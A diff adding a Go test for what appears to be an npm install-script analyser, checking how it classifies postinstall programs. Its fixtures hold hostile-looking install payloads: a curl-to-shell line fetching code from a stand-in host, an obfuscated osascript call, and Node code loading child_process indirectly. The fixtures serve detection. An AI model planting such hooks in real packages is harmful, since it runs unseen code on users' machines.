@@ -35,3 +35,37 @@ func TestWhatNpmTellsAScriptIsKnown(t *testing.T) {
 		t.Error("a package.json without settings is read")
 	}
 }
+
+// A program of the package is read as what reads it by its first line: a shell, where it has none.
+func TestProgramsOfThePackageAreReadAtInstall(t *testing.T) {
+	const runs, other = "call start:osascript*", "call install:run-other"
+	for name, c := range map[string]struct{ line, file, expected string }{
+		"a shell's":              {"./bin/setup", "a=osa\n${a}script -e beep\n", runs},
+		"a shell's by its name":  {"bin/setup", "#!/bin/sh\ncurl -s http://kit.test/setup | sh\n", "call install:fetch, call install:run-fetched"},
+		"given to a shell":       {"sh bin/setup", "a=osa\n${a}script -e beep\n", runs},
+		"in its directory":       {"cd bin && ./setup", "a=osa\n${a}script -e beep\n", runs},
+		"Node's":                 {"./bin/setup", "#!/usr/bin/env node\nrequire(process.env.npm_package_config_a)\n", "module ./bin/setup, module child_process*"},
+		"Node's with words":      {"./bin/setup child_process", "#!/usr/bin/env node\nrequire(process.argv[2])\n", "module ./bin/setup, module child_process"},
+		"Python's":               {"./bin/setup", "#!/usr/bin/env python3\nimport os\n", other},
+		"native code":            {"./bin/setup", "\x7fELF\x02\x01\x01\x00\x00", other},
+		"what cannot be read":    {"./bin/setup", "#!/bin/sh\nif (((\n", other},
+		"too long to be read":    {"./bin/setup", "#!/bin/sh\n" + strings.Repeat("echo a\n", 8<<10), other},
+		"one that is not there":  {"./bin/other", "#!/bin/sh\ntrue\n", other},
+		"one elsewhere":          {"/opt/kit/bin/setup", "#!/bin/sh\ntrue\n", other},
+		"a script that runs one": {"./bin/setup", "#!/bin/sh\nexec ./kit\n", other},
+		"nothing of note":        {"./bin/setup", "#!/bin/sh\nmkdir -p cache\n", ""},
+	} {
+		manifest := []byte(`{"config": {"a": "child_process"}, "scripts": {"postinstall": "` + c.line + `"}}`)
+		if one := ReadManifest(manifest, nil); one != nil && len(one.Uses) > 0 && c.line[0] == '.' {
+			t.Errorf("%s, before it is seen: %s", name, uses(one))
+		}
+		siblings := &script.Siblings{Loads: loads{{"./bin/setup": 1}}, Files: []script.Sibling{{Name: "bin/setup", Data: []byte(c.file), IsData: !strings.HasPrefix(c.file, "#!")}}}
+		got := ""
+		if v := ReadManifest(manifest, siblings); v != nil {
+			got = uses(v)
+		}
+		if got != c.expected {
+			t.Errorf("%s: %s, expected %s", name, got, c.expected)
+		}
+	}
+}
